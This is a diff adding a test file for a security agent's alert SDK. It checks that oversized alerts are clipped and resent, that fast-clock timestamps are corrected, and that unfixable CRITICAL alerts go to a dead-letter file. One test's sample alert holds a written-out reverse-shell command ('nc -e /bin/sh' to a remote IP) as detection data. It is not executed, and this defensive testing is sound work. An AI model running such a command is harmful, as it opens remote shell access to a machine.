@@ -1,0 +1,185 @@
+// Issue 13, rows 4 and 5 (agent side): the agent never drops an alert for a property it can fix.
+// An ingest with a small MAX_EVENT_DETAIL_BYTES refuses a padded reverse-shell alert as too large;
+// one whose clock check is strict refuses a fast agent clock. The agent fixes and resends both.
+// A CRITICAL alert that is truly malformed ends in the dead-letter file, and an alert says so.
+import { readFile } from 'node:fs/promises';
+import { join } from 'node:path';
+import {
+  DEAD_LETTER_FILE,
+  DEAD_LETTER_RULE_NAME,
+  type DeadLetterEntry,
+  Outbox,
+} from '@tripwire/agent-sdk';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import {
+  captureLog,
+  draft,
+  ENROLLMENT_TOKEN,
+  type RunningIngest,
+  startIngest,
+  storedAlertIds,
+  until,
+  useAgents,
+  useEnvironment,
+} from './agent-harness.js';
+
+const env = useEnvironment();
+const agents = useAgents();
+let ingest: RunningIngest;
+const DETAIL_LIMIT = 4096;
+
+beforeAll(async () => {
+  // An older-behaviour server: refuses (does not clip) details over 4 KiB, and times ahead.
+  ingest = await startIngest(env, {
+    MAX_EVENT_DETAIL_BYTES: String(DETAIL_LIMIT),
+    PING_INTERVAL_MS: '100',
+  });
+});
+afterAll(() => ingest?.stop());
+
+async function detailOf(alertId: string) {
+  const { rows } = await env.pool.query<{
+    event_detail: Record<string, unknown>;
+    occurred_at: Date;
+    rule_name: string;
+  }>('SELECT event_detail, occurred_at, rule_name FROM alerts WHERE alert_id = $1', [alertId]);
+  return rows[0];
+}
+
+describe('rejections the agent can fix', () => {
+  it('a padded reverse-shell alert refused as too large is clipped, resent and stored; nothing dropped', async () => {
+    const logs = captureLog('agent');
+    const client = agents.create({
+      server: ingest.address,
+      stateDir: await agents.stateDir(),
+      enrollmentToken: ENROLLMENT_TOKEN,
+      hostname: 'sdk-clip-01',
+      log: logs.log,
+    });
+    await client.start();
+    const cmdline = `nc -e /bin/sh 203.0.113.7 4444 ${'A'.repeat(70_000)}`;
+    const padded = await client.enqueue(
+      draft(1, { tripwireType: 'PROCESS', ruleName: 'reverse-shell-tools', detail: { cmdline } }),
+    );
+    expect(await client.flush(15_000)).toBe(true);
+    expect(await storedAlertIds(env, [padded])).toEqual([padded]);
+    const row = await detailOf(padded);
+    const stored = row!.event_detail as { cmdline: string; truncated: Record<string, number> };
+    expect(stored.cmdline.startsWith('nc -e /bin/sh 203.0.113.7 4444 AAAA')).toBe(true);
+    expect(Buffer.byteLength(JSON.stringify(stored))).toBeLessThanOrEqual(DETAIL_LIMIT);
+    expect(stored.truncated).toEqual({ cmdline: Buffer.byteLength(cmdline) });
+    expect(client.stats()).toMatchObject({
+      queued: 0,
+      acked: 1,
+      fixed: 1,
+      rejected: 0,
+      deadLettered: 0,
+    });
+    expect(logs.entries()).toContainEqual(
+      expect.objectContaining({
+        alertId: padded,
+        code: 'REJECT_CODE_EVENT_DETAIL_TOO_LARGE',
+        fix: 'clipped',
+      }),
+    );
+
+    // The limit is learned: the next large alert is clipped before it is sent, not refused.
+    const next = await client.enqueue(draft(2, { detail: { blob: 'x'.repeat(10_000) } }));
+    expect(await client.flush(15_000)).toBe(true);
+    expect(await storedAlertIds(env, [next])).toEqual([next]);
+    expect(client.stats()).toMatchObject({ fixed: 1, rejected: 0 });
+  });
+
+  it('an alert from a clock a day fast is stored with the server-corrected time and its own kept', async () => {
+    const client = agents.create({
+      server: ingest.address,
+      stateDir: await agents.stateDir(),
+      enrollmentToken: ENROLLMENT_TOKEN,
+      hostname: 'sdk-clock-01',
+    });
+    await client.start();
+    const fast = new Date(Date.now() + 86_400_000);
+    const future = await client.enqueue(draft(1, { occurredAt: fast }));
+    expect(await client.flush(15_000)).toBe(true);
+    const row = await detailOf(future);
+    expect(row).toBeDefined();
+    expect(row!.event_detail).toMatchObject({ agent_timestamp_us: fast.getTime() * 1000 });
+    // Stored at (about) the server's time, not a day ahead.
+    expect(row!.occurred_at.getTime()).toBeLessThan(Date.now() + 60_000);
+    expect(client.stats()).toMatchObject({ queued: 0, fixed: 1, rejected: 0 });
+  });
+});
+
+describe('a CRITICAL alert the agent cannot fix', () => {
+  it('goes to the dead-letter file and an alert about it reaches the server', async () => {
+    const stateDir = await agents.stateDir();
+    const first = agents.create({
+      server: ingest.address,
+      stateDir,
+      enrollmentToken: ENROLLMENT_TOKEN,
+      hostname: 'sdk-dead-01',
+    });
+    await first.start();
+    await first.stop();
+    // A record no SDK call would write (an unknown tripwire type), as a corrupt or foreign
+    // outbox could hold: the server refuses it as INVALID_TRIPWIRE_TYPE, which nothing fixes.
+    const outbox = await Outbox.open({ path: join(stateDir, 'outbox.log') });
+    const badId = '0b5e6f0e-7d1a-4b8e-9a51-5c3f5f3f0d13';
+    await outbox.append({
+      alertId: badId,
+      tripwireType: 'KERNEL' as 'FILE',
+      severity: 'CRITICAL',
+      ruleName: 'kernel-module',
+      timestampUs: Date.now() * 1000,
+      detailJson: '{"module":"rootkit"}',
+    });
+    await outbox.close();
+
+    const logs = captureLog('agent');
+    const client = agents.create({ server: ingest.address, stateDir, log: logs.log });
+    await client.start();
+    expect(await client.flush(15_000)).toBe(true);
+    expect(client.stats()).toMatchObject({
+      queued: 0,
+      rejected: 1,
+      deadLettered: 1,
+      rejectedByCode: { REJECT_CODE_INVALID_TRIPWIRE_TYPE: 1 },
+    });
+
+    const lines = (await readFile(join(stateDir, DEAD_LETTER_FILE), 'utf8')).trim().split('\n');
+    const letters = lines.map((l) => JSON.parse(l) as DeadLetterEntry);
+    expect(letters).toEqual([
+      expect.objectContaining({
+        code: 'REJECT_CODE_INVALID_TRIPWIRE_TYPE',
+        alert: expect.objectContaining({
+          alert_id: badId,
+          rule_name: 'kernel-module',
+          event_detail_json: '{"module":"rootkit"}',
+        }),
+      }),
+    ]);
+    const { rows } = await env.pool.query<{
+      severity: string;
+      event_detail: Record<string, unknown>;
+    }>('SELECT severity, event_detail FROM alerts WHERE host_id = $1 AND rule_name = $2', [
+      client.hostId,
+      DEAD_LETTER_RULE_NAME,
+    ]);
+    expect(rows).toEqual([
+      {
+        severity: 'CRITICAL',
+        event_detail: expect.objectContaining({
+          rejected_alert_id: badId,
+          code: 'REJECT_CODE_INVALID_TRIPWIRE_TYPE',
+          rule_name: 'kernel-module',
+          dead_letter_file: join(stateDir, DEAD_LETTER_FILE),
+        }),
+      },
+    ]);
+    // The agent still works: a valid alert after it is stored.
+    const good = await client.enqueue(draft(9));
+    expect(await client.flush(15_000)).toBe(true);
+    expect(await storedAlertIds(env, [good])).toEqual([good]);
+    await until(() => logs.text().includes('kept it in the dead-letter file'));
+  });
+});
